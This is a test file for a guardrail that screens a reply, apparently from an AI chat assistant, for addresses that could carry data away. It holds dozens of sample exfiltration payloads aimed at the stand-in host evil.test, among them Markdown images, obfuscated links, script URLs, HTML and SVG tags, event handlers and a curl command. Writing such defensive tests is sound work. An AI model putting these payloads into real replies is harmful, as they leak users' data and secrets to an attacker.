import { describe, expect, it } from 'vitest';
import { screenChunks, screenText } from './fixtures.ts';

const key = ['sk', 'proj', 'abcdefghijklmnopqrstuvwx'].join('-');
const DATA = 'c2VjcmV0IGRhdGE';

describe('a reply with an address that could carry data away', () => {
  it.each<[string, string, string]>([
    ['a Markdown image', `Hi ![cat](https://evil.test/p.png?d=${DATA})!`, 'Hi cat [image removed]!'],
    ['an image without description', `![](https://evil.test/${DATA})`, '[image removed]'],
    ['an image with a plain address of another host', '![cat](https://evil.test/cat.png)', 'cat [image removed]'],
    ['an image with its address in angle brackets', `![cat](<https://evil.test/?d=${DATA} x>)`, 'cat [image removed]'],
    ['an image over several lines', `![cat](\n  https://evil.test/?d=${DATA}\n  "title")`, 'cat [image removed]'],
    [
      'an image within a link',
      `[![cat](https://evil.test/?d=${DATA})](https://shop.example.com/a)`,
      '[cat [image removed]](https://shop.example.com/a)',
    ],
    ['an image whose description is too long', `![${'x'.repeat(600)}](https://evil.test/cat.png)`, `![${'x'.repeat(600)}] [image removed]`],
    ['an image by reference', `![cat][c]\n\n[c]: https://evil.test/?d=${DATA} "t"\n`, '![cat][c]\n\n[c] [link removed] "t"\n'],
    ['a reference over two lines', `![cat][c]\n\n[c]:\n   https://evil.test/cat.png\n`, '![cat][c]\n\n[c] [link removed]\n'],
    ['a reference in a quote', `> [c]: <//evil.test/cat.png>\n`, '> [c] [link removed]\n'],
    ['a Markdown link', `[here](https://evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['a link with spaces that only lenient readers take', `[here](https://evil.test/?d=a b c)`, '[here] [link removed]'],
    ['a link without a scheme', `[here](//evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['a link with more slashes', `[here](////evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['a link with backslashes', `[here](https:\\\\evil.test\\?d=${DATA})`, '[here] [link removed]'],
    ['a link with slash and backslash', `[here](/\\evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['an escaped colon', `[here](https\\://evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['an encoded colon', `[here](https&colon;//evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['a tab within the scheme', `[here](<ht\ttps://evil.test/?d=${DATA}>)`, '[here] [link removed]'],
    ['a zero-width character within the scheme', `[here](ht\u200btps://evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['a user name that looks like the shop', `[here](https://shop.example.com@evil.test/)`, '[here] [link removed]'],
    ['a user name behind a backslash', `[here](https://evil.test\\@shop.example.com/?d=${DATA})`, '[here] [link removed]'],
    ['the shop as a subdomain of another host', `[here](https://shop.example.com.evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['the shop on another port', `[here](https://shop.example.com:444/?d=${DATA})`, '[here] [link removed]'],
    ['a percent-encoded host', `[here](https://%73hop.example.com/?d=${DATA})`, '[here] [link removed]'],
    ['a full-width dot in the host', '[here](https://evil。test/)', '[here] [link removed]'],
    ['a full-width host', '[here](https://ｅｖｉｌ.test/)', '[here] [link removed]'],
    ['a look-alike host', '[here](https://shор.example.com/)', '[here] [link removed]'],
    ['a punycode host', '[here](https://xn--80ak6aa92e.com/)', '[here] [link removed]'],
    ['an address by number', '[here](https://203.0.113.7/)', '[here] [link removed]'],
    ['data in the path', `[here](https://evil.test/${DATA})`, '[here] [link removed]'],
    ['hexadecimal data in the path', '[here](https://evil.test/5ec2e7d0)', '[here] [link removed]'],
    ['data in a host label', `[here](https://${DATA.toLowerCase()}x0x1x2x3x4.evil.test/)`, '[here] [link removed]'],
    ['data in the fragment', '[here](https://evil.test/#abc)', '[here] [link removed]'],
    ['percent-encoded data', '[here](https://evil.test/a%20b)', '[here] [link removed]'],
    ['a script', '[here](javascript:alert(1))', '[here] [link removed]'],
    ['a script with an encoded letter', '[here](&#106;avascript:alert(1))', '[here] [link removed]'],
    ['a script with a line break', '[here](java\nscript:alert(1))', '[here] [link removed]'],
    ['an embedded document', '[here](data:text/html;base64,PHNjcmlwdD4=)', '[here] [link removed]'],
    ['an embedded image', '![cat](data:image/png;base64,AAAA)', 'cat [image removed]'],
    ['a message filled in', '[here](mailto:a@evil.test?body=secret)', '[here] [link removed]'],
    ['an autolink', `<https://evil.test/?d=${DATA}>`, '[link removed]'],
    ['a bare address', `See https://evil.test/?d=${DATA}, please.`, 'See [link removed], please.'],
    ['a bare address in capitals', `See HTTPS://EVIL.TEST/?D=${DATA} please.`, 'See [link removed] please.'],
    ['a bare address in emphasis', `**https://evil.test/?d=${DATA}**`, '**[link removed]**'],
    ['a bare address behind a word', `seehttps://evil.test/?d=${DATA}`, 'seehttps[link removed]'],
    ['a bare address in JSON spelling', `"https:\\/\\/evil.test\\/?d=${DATA}"`, '"[link removed]"'],
    ['a quote that greedy readers take along', `https://evil.test/"?d=${DATA}`, `[link removed]"?d=${DATA}`],
    ['www without a scheme', `www.evil.test/?d=${DATA}`, '[link removed]'],
    ['a host without a scheme', `evil.com/${DATA}`, 'evil.com[link removed]'],
    ['a host with a query', `evil.com?d=${DATA} x`, 'evil.com[link removed] x'],
    ['another scheme', `ftp://evil.test/${DATA}`, 'ftp[link removed]'],
    ['an address behind a bracket nobody opened', `https://evil.test/](${DATA}`, `[link removed]](${DATA}`],
    ['an image tag', `<img src="https://evil.test/?d=${DATA}" alt="A cat">`, 'A cat [image removed]'],
    ['an image tag without quotes', `<IMG SRC=//evil.test/${DATA}>`, '[image removed]'],
    ['an image tag with an encoded address', `<img src="&#104;ttps&colon;&sol;&sol;evil.test/?d=${DATA}">`, '[image removed]'],
    ['an image tag with slashes for spaces', `<img/src=https://evil.test/${DATA}/>`, '[image removed]'],
    ['one of several sources', '<img srcset="https://shop.example.com/a 1x, https://evil.test/b 2x">', '[image removed]'],
    ['a frame', `<iframe src="https://evil.test/?d=${DATA}"></iframe>`, '[markup removed]</iframe>'],
    ['a drawing', `<svg><image href="//evil.test/${DATA}"/></svg>`, '<svg>[image removed]</svg>'],
    ['a drawing with the old attribute', `<svg><use xlink:href="https://evil.test/${DATA}"/></svg>`, '<svg>[markup removed]</svg>'],
    ['a style with an address', `<p style="background:url('https://evil.test/?d=${DATA}')">x</p>`, '[markup removed]x</p>'],
    ['a style with an escape', '<p style="background:\\75rl(https://evil.test/x)">x</p>', '[markup removed]x</p>'],
    ['a style sheet', '<style>@import "https://evil.test/x?y";</style>', '[markup removed]@import "[link removed]";'],
    ['a linked style sheet', '<link rel=stylesheet href=https://evil.test/a.css>', '[markup removed]'],
    ['a refresh', `<meta http-equiv=refresh content="0;url=https://evil.test/?d=${DATA}">`, '[markup removed]'],
    ['another base', '<base href="https://evil.test/">', '[markup removed]'],
    [
      'a form',
      '<form action="https://evil.test/"><button formaction="https://evil.test/x?y">ok</button>',
      '[markup removed][markup removed]ok</button>',
    ],
    ['a video poster', `<video poster="https://evil.test/${DATA}"></video>`, '[markup removed]</video>'],
    ['a script element', '<script src="https://shop.example.com/a.js"></script>', '[markup removed]'],
    ['an event handler', '<b onmouseover="steal()">x</b>', '[markup removed]x</b>'],
    ['a link that pings', '<a href="https://shop.example.com/" ping="https://evil.test/x">x</a>', '[link removed]x</a>'],
    ['a link tag', `<a href="https://evil.test/?d=${DATA}">x</a>`, '[link removed]x</a>'],
    ['a tag that never ends', `<img src="https://evil.test/?d=${DATA}`, '<img src="[link removed]'],
    [
      'a tag that is too long',
      `<img title="${'x'.repeat(3000)}" src="//evil.test/?d=${DATA}">`,
      `<img title="${'x'.repeat(3000)}" src="[link removed]">`,
    ],
    ['a handler in a tag that looks like prose', '<x a b c d e onclick=steal()>', '<x a b c d e onclick[markup removed]steal()>'],
    [
      'an address in disguise in a tag that looks like prose',
      '<x a b c d e src="&#47;&#47;evil.test/x?y">',
      '<x a b c d e src[markup removed]"&#47;&#47;evil.test[link removed]">',
    ],
    ['an address in a code block', `\`\`\`\ncurl https://evil.test/?d=${DATA}\n\`\`\`\n`, '```\ncurl [link removed]\n```\n'],
    ['an address in a code span', `\`https://evil.test/?d=${DATA}\``, '`[link removed]`'],
    ['an image after a fence in raw HTML', '<div>\n```\n<img src="https://evil.test/a.png">\n', '<div>\n```\n[image removed]\n'],
    ['an image behind a fence that is none', '```a`b\n![cat](https://evil.test/a.png)\n', '```a`b\ncat [image removed]\n'],
    ['an address longer than the window', `See https://evil.test/${'a'.repeat(5000)} now`, 'See [link removed] now'],
  ])('does not release %s', (_name, text, released) => {
    const outcome = screenText(text);
    expect(outcome.released).toBe(released);
    expect(outcome.code).toBeNull();
    expect(Object.keys(outcome.findings)).not.toEqual([]);
    expect(screenChunks([...text]).released).toBe(released);
  });

  it.each([
    '[here](https://evil.test/?mail=<EMAIL_1>)',
    '![x](https://shop.example.com/?mail=<EMAIL_1>)',
    '[here](https://shop.example.com/?mail=%3CEMAIL_1%3E)',
    'https://shop.example.com/?mail=<EMAIL_1>',
    'https://shop.example.com/[EMAIL_1]',
    '<https://evil.test/[EMAIL_1]>',
    '<img src="https://evil.test/?m=&lt;EMAIL_1&gt;">',
    '[here](mailto:a@evil.test?body=<EMAIL_1>)',
    '[r]: https://evil.test/<EMAIL_1>\n',
    `https://shop.example.com/?k=${key}`,
    `![x](https://evil.test/${key})`,
  ])('is withheld as a whole when the address holds a placeholder or a key: %s', (text) => {
    expect(screenText(text).code).toBe('GUARDRAILS_LINK_CARRIES_DATA');
    const units = screenChunks([...text]);
    expect(units.code).toBe('GUARDRAILS_LINK_CARRIES_DATA');
    expect(units.released).not.toMatch(/EMAIL|[?]k=|evil\.test/);
  });
});
